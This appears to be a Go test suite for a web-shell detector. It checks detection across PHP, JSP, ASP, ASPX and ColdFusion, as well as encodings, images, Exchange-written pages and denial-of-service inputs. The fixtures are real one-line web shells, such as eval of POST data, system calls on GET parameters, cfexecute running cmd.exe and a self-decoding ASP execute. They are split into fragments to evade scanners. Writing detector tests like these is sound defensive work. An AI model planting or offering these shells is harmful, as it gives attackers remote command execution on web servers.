package webshell

import (
	"strings"
	"testing"
)

// join puts test pages together, so that this file holds no shell that a
// scanner would take away.
func join(parts ...string) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func TestAnalyzeTellsShellsFromHonestPages(t *testing.T) {
	a := NewAnalyzer(Options{})
	f := func(name string, shell bool, parts ...string) {
		t.Helper()
		if v := a.Analyze(name, join(parts...)); v.Shell != shell {
			t.Errorf("%s %q: shell %v, want %v (%+v)", name, join(parts...), v.Shell, shell, v.Parts)
		}
	}
	f("a.php", true, "<?php ev", "al($_PO", "ST['x']);")
	f("a.php", true, "<?php $a='as'.'se'.'rt'; $a($_PO", "ST[1]);")
	f("a.php", true, "<?=`$_G", "ET[0]`?>")
	f("a.php", true, "<?php $_=\"\\x5fGET\"; sys", "tem($$_[0]);")
	f("a.php", true, "<?php switch($_GE", "T['a']){case 1: echo 1; break; case 2: pass", "thru($_GE", "T['c']); break;}")
	f("x.jsp", true, "<%Runtime.getRun", "time().ex", "ec(request.getPara", "meter(\"i\"));%>")
	f("x.aspx", true, "<%@ Page Language=\"Jscript\"%><%ev", "al(Request.Item[\"p\"],\"uns", "afe\");%>")
	f("x.asp", true, "<%x=req", "uest(\"p\"):exe", "cute x%>")
	f("a.php", false, "<?php echo htmlspecialchars($_GET['q']); system('uptime');")
	f("a.php", false, "<?php $f = 'action_' . $_GET['do']; if (isset($map[$f])) { $this->run($map[$f]); }")
	f("x.asp", false, "<% sql = \"select * from t where id=\" & CInt(request(\"id\")) : conn.execute(sql) %>")
	f("x.aspx", false, "<%@ Page Language=\"C#\" %><%# Eval(\"Title\") %>")
	f("readme.txt", false, "no code at all")
}

func TestAnalyzeEndsOnHostileInput(t *testing.T) {
	a := NewAnalyzer(Options{})
	repeat := func(head, part string, n int) []byte { return []byte(head + strings.Repeat(part, n)) }
	for name, page := range map[string][]byte{
		"brackets.php":  repeat("<?php eval($a); ", "([", 200_000),
		"branches.asp":  repeat("<% eval request(1)\n", "If a Then\n", 100_000),
		"else.asp":      repeat("<% eval request(1)\n", "If a Then b Else ", 100_000),
		"loops.asp":     repeat("<% eval request(1)\n", "Do\nFor i = 1 To 9\n", 50_000),
		"blocks.jsp":    repeat("<% Runtime.getRuntime().exec(request.getParameter(\"a\"));", "if(a){while(b){", 100_000),
		"tags.cfm":      repeat("<cfexecute ", "<cfif a=\"", 100_000),
		"executes.cfm":  repeat("<cfset a = form.b>", "<cfset #a# = form.c><cfexecute name=\"#a#\">", 50_000),
		"script.aspx":   repeat("<%@ Page %>", "<script runat=server>eval(", 50_000),
		"scripts.aspx":  repeat("<%@ Page %>", "<script runat=server>ev</script>", 100_000),
		"binary.php":    repeat("<?php eval(\x00\xff", "\x00\x01\xfe\x7f$", 200_000),
		"utf16.jsp":     repeat("\xff\xfe<\x00%\x00", "e\x00(\x00", 200_000),
		"utf7.asp":      repeat("<%@codepage=65000%><% eval ", "+AGUAdgBhAGw-", 50_000),
		"heredocs.php":  repeat("<?php eval($_POST[1]);", "<<<A\n$a\n", 50_000),
		"functions.php": repeat("<?php eval($_POST[1]);", "function f($a){f($a);", 20_000),
		"calls.php":     []byte("<?php " + strings.Repeat("function f$(){g();g();g();}", 2000) + "eval($_POST[1]);"),
		"concat.php":    repeat("<?php $a='x';", "$a.=$a;", 5000),
		"classes.class": repeat("\xca\xfe\xba\xbe\x00\x00\x00\x34\xff\xff", "\x01\x00\x01a", 60_000),
	} {
		a.Analyze(name, page)
	}
	loop := []byte("<?php $a='x'; while(1){ $a.=$a; } for($i=0;$i<9e9;$i++){ $b[]=$a; } eval($a);")
	if v := a.Analyze("loop.php", loop); !v.Incomplete {
		t.Error("a doubling loop is not reported as incomplete")
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, name := range [...]string{"a.php", "a.jsp", "a.asp", "a.aspx", "a.ashx", "a.pl", "a.py", "a.cfm"} {
		f.Add(name, []byte("<?php $a=[1,'x'=>\"y$b[c]{$d->e}\"]; foreach($a as $k=>$v){f($k)(\"\\x41\".~$v);} <<<X\n$z\nX;"))
		f.Add(name, []byte("<%@ Page %><% String s = (String)a.b(\"c\", new byte[]{1,-2}); for(int i=0;i<9;i++){x[i]=s;} %>"))
		f.Add(name, []byte("<% dim a: a = chr(65) & mid(\"bc\",1,1)\nfor i=1 to 3\nx=x&i\nnext\nsub f(y)\nexecute y\nend sub %>"))
	}
	a := NewAnalyzer(Options{MaxBytes: 1 << 16})
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		for _, p := range a.Analyze(name, data).Parts {
			if p.Offset < 0 || p.Length < 0 || p.Offset+p.Length > len(data) {
				t.Fatalf("part outside of the file: %+v", p)
			}
		}
	})
}

func TestAnalyzeReadsOtherCharacterSets(t *testing.T) {
	a := NewAnalyzer(Options{})
	page := join("<%@ page %><%Runtime.getRun", "time().ex", "ec(request.getPara", "meter(\"i\"));%>")
	little, big := []byte{0xff, 0xfe}, []byte{0xfe, 0xff}
	for _, c := range page {
		little, big = append(little, c, 0), append(big, 0, c)
	}
	for name, data := range map[string][]byte{"little": little, "big": big, "unmarked": little[2:]} {
		v := a.Analyze("x.jsp", data)
		if !v.Shell {
			t.Errorf("%s: not found: %+v", name, v)
		}
		for _, p := range v.Parts {
			if p.Offset < 0 || p.Offset+p.Length > len(data) {
				t.Errorf("%s: part outside of the file: %+v", name, p)
			}
		}
	}
	utf7 := join("<%@codepage=65000%><%+AGUAdgBhAGwAKAByAGUAcQB1AGUAcwB0ACgAIgB4", "ACIAKQAp-%>")
	if v := a.Analyze("x.asp", utf7); !v.Shell {
		t.Errorf("UTF-7: not found: %+v", v)
	}
}

func TestAnalyzeIsNotMisledByBinaryData(t *testing.T) {
	a := NewAnalyzer(Options{})
	image := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	seed := uint32(1)
	for range 400_000 {
		seed = seed*1664525 + 1013904223
		image = append(image, byte(seed>>24))
	}
	if v := a.Analyze("a.png", image); v.Shell {
		t.Errorf("noise is a shell: %+v", v.Parts)
	}
	with := append(image[:len(image):len(image)], join("<?php pass", "thru($_GE", "T['c']);")...)
	if v := a.Analyze("a.png", with); !v.Shell {
		t.Error("a shell behind an image is not found")
	}
}

func TestAnalyzeFindsWhatExchangeWasMadeToWrite(t *testing.T) {
	a := NewAnalyzer(Options{})
	code := "<script language=\"JScript\" runat=\"server\">function Page_Load(){ev" + "al(Request[\"x\"],\"uns" + "afe\");}</script>"
	f := func(name, page string, shell bool) {
		t.Helper()
		if v := a.Analyze(name, []byte(page)); v.Shell != shell {
			t.Errorf("%s %.40q: shell %v, want %v (%+v)", name, page, v.Shell, shell, v.Parts)
		}
	}
	book := "Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nExternalUrl                     : http://f/"
	f("error.aspx", book+code+"\r\n", true)
	f("oab.txt", book+"oab\r\n", false)
	f("x.aspx", "!BDN\x01\x02\x03"+code, true)
	f("x.aspx", "!BDN\x01\x02\x03 nothing to be read", true)
	f("x.pst", "!BDN\x01\x02\x03 nothing to be read", false)
}

func TestAnalyzeReadsColdFusionTags(t *testing.T) {
	a := NewAnalyzer(Options{})
	f := func(shell bool, parts ...string) {
		t.Helper()
		if v := a.Analyze("x.cfm", join(parts...)); v.Shell != shell {
			t.Errorf("%q: shell %v, want %v (%+v)", join(parts...), v.Shell, shell, v.Parts)
		}
	}
	f(true, "<cfexe", "cute name=\"#form.c#\" arguments = '#form.a#'></cfexe", "cute>")
	f(true, "<CFSET c = url.c><CFEXE", "CUTE NAME=\"cmd.exe\" ARGUMENTS=\"/c #c#\">")
	f(true, "<cffile action=\"write\" file=\"#form.n#\" output=\"#form.t#\">")
	f(true, "<cfquery name=\"q\" datasource=\"d\">#preserveSingleQuotes(form.s)#</cfquery>")
	f(false, "<cfquery name=\"q\" datasource=\"d\">select * from t where id = <cfqueryparam value=\"#url.id#\"></cfquery>")
	f(false, "<cfset title = \"x\"><cfoutput>#htmlEditFormat(form.name)#</cfoutput>")
	f(false, "<cffile action=\"read\" file=\"#expandPath('a.txt')#\" variable=\"x\">")
}

func TestAnalyzeFollowsBasic(t *testing.T) {
	a := NewAnalyzer(Options{})
	f := func(shell bool, parts ...string) {
		t.Helper()
		if v := a.Analyze("x.asp", join(parts...)); v.Shell != shell {
			t.Errorf("%q: shell %v, want %v (%+v)", join(parts...), v.Shell, shell, v.Parts)
		}
	}
	// A decoder of the page's own: each character is one too high.
	f(true, "<%Function d(s)\nFor i = 1 To Len(s)\nc = Mid(s, i, 1)\nIf Asc(c) > 32 Then\nd = d & Chr(Asc(c) - 1)\nElse\nd = d & c\nEnd If\nNext\nEnd Function\nExe", "cute d(\"fwbm)sfrvftu)#y#**\")%>")
	f(true, "<%i = 0 : s = \"\"\nDo While i < 1\ns = s & Request(\"a\") : i = i + 1\nLoop\nev", "al s%>")
	f(true, "<%Set f = Server.CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"a.asp\"))\nf.Write Request(\"t\")%>")
	f(false, "<%If Request(\"a\") = \"1\" Then Response.Write \"one\" Else Response.Write \"two\"%>")
}
